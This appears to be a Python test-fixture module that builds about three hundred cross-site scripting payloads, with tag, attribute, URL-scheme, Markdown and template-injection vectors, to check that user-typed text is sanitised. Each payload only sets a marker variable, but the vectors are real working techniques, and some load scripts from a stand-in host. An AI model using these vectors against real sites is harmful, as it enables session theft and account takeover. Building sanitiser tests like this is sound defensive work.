"""Three hundred texts that try to run in somebody else's page: shared by every test of what people type.

Each calls ``pwn`` in its own way; ``window.__pwn`` tells that one ran. They are made of vectors that browsers,
sanitisers and Markdown parsers have known, each put as it is and behind what could close the place where it is shown.
"""

from __future__ import annotations

#: What runs, if anything does.
CALL = "window.__pwn=1"

VECTORS: tuple[str, ...] = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script >{CALL}</script >",
    f"<script/x>{CALL}</script>",
    f"<script\n>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=https://mal.example/x.js></script>",
    "<script src=//mal.example></script>",
    "<script src=data:text/javascript,window.__pwn=1></script>",
    f"<script type=module>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror='{CALL}'>",
    f'<img src=x onerror="{CALL}">',
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x OnErRoR={CALL}>",
    f"<img src=x onerror\n={CALL}>",
    f"<img src=x onerror\x0c={CALL}>",
    f"<image src=x onerror={CALL}>",
    f"<img srcset=x onerror={CALL}>",
    f'<img """><script>{CALL}</script>">',
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.__pwn=1><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.__pwn=1></svg>#x'></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>",
    "<math href=javascript:window.__pwn=1>x</math>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<button autofocus onfocus={CALL}>x</button>",
    f"<video><source onerror={CALL}></video>",
    f"<video src=x onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={CALL}>x</div>",
    f"<div onpointerenter={CALL}>x</div>",
    f"<p contenteditable autofocus onfocus={CALL}>x</p>",
    "<iframe src=javascript:window.__pwn=1></iframe>",
    "<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>",
    "<iframe src='data:text/html,<script>parent.__pwn=1</script>'></iframe>",
    "<object data=javascript:window.__pwn=1></object>",
    "<embed src=javascript:window.__pwn=1>",
    "<applet code=x></applet>",
    "<a href=javascript:window.__pwn=1>x</a>",
    "<a href=' javascript:window.__pwn=1'>x</a>",
    "<a href='java\tscript:window.__pwn=1'>x</a>",
    "<a href='&#106;avascript:window.__pwn=1'>x</a>",
    "<form action=javascript:window.__pwn=1><button>x</button></form>",
    "<form><button formaction=javascript:window.__pwn=1>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__pwn=1'>",
    "<base href=https://mal.example/>",
    "<link rel=stylesheet href=https://mal.example/x.css>",
    "<style>@import 'https://mal.example/x.css';</style>",
    "<div style='background:url(javascript:window.__pwn=1)'>x</div>",
    "<div hx-get=https://mal.example hx-trigger=load>x</div>",
    f"<div hx-on::load='{CALL}'>x</div>",
    f"<div data-hx-on:click='{CALL}' hx-vals='js:{{x:{CALL}}}'>x</div>",
    "[x](javascript:window.__pwn=1)",
    "[x](JaVaScRiPt:window.__pwn=1)",
    "[x](java&#115;cript:window.__pwn=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd249MTwvc2NyaXB0Pg==)",
    "[x](vbscript:window.__pwn=1)",
    f'[x](https://a.example "onmouseover={CALL}")',
    f'![x" onerror="{CALL}](https://a.example/x.png)',
    f"@[<img src=x onerror={CALL}>]",
    f"> <script>{CALL}</script>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"<bdo dir=rtl><img src=x onerror={CALL}></bdo>",
    "{{ ''.__class__.__mro__ }}${7*7}#{7*7}<%= 7*7 %>",
)

#: What could close the place where a text is shown: a field, an attribute, a title.
BREAKOUTS = ("", '">', "</textarea></title></style>", "'--></script></div></article>")

PAYLOADS: tuple[str, ...] = tuple(f"{before}{vector}" for vector in VECTORS for before in BREAKOUTS)

#: A mention: where messages are typed, its name is shown without the marks that posting adds.
MENTION = f"@[<img src=x onerror={CALL}>]"

#: What is read of the only ones that a document does not show as they were typed: Markdown makes a link, a mention or
#: bold letters of them.
READ = {
    f'[x](https://a.example "onmouseover={CALL}")': "x",
    f'![x" onerror="{CALL}](https://a.example/x.png)': f'!x" onerror="{CALL}',
    MENTION: f"<img src=x onerror={CALL}>",
    "{{ ''.__class__.__mro__ }}${7*7}#{7*7}<%= 7*7 %>": "{{ ''.class.mro }}${77}#{77}<%= 7*7 %>",
}


def read(payload: str) -> str:
    """What a reader of a document sees of a payload."""
    for typed, shown in READ.items():
        payload = payload.replace(typed, shown)
    return payload
